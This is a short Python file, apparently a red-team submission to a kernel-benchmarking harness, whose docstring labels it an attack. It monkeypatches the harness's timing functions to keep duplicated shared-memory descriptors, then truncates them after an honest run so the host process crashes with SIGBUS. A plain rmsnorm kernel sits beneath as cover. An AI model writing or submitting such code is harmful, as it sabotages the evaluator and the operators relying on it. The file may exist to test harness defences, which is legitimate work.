"""ATTACK (wall 1 bypassed): keep a dup of the shared-memory fd the host passes for timing, then
ftruncate it to 0 during a timed call. The host maps the same memfd; its next read of the
outputs touches pages past EOF -> SIGBUS in the host process."""

import os

import torch

import cacheon_subnet.bench_timing as _bt

_orig = _bt.map_arena
_fds = []


def _spy(fd, call_bytes, calls):
    _fds.append(os.dup(fd))
    return _orig(fd, call_bytes, calls)


_bt.map_arena = _spy
_run = _bt.run_calls


def _run_then_shrink(fn, calls, params, n):
    _run(fn, calls, params, n)  # honest batch first, then the worker replies "ok" as usual
    for fd in _fds:
        os.ftruncate(fd, 0)


_bt.run_calls = _run_then_shrink


def rmsnorm(x: torch.Tensor, weight: torch.Tensor, out: torch.Tensor, eps: float) -> None:
    x32 = x.to(torch.float32)
    var = x32.pow(2).mean(dim=-1, keepdim=True)
    out.copy_(x32 * torch.rsqrt(var + eps) * weight.to(torch.float32))
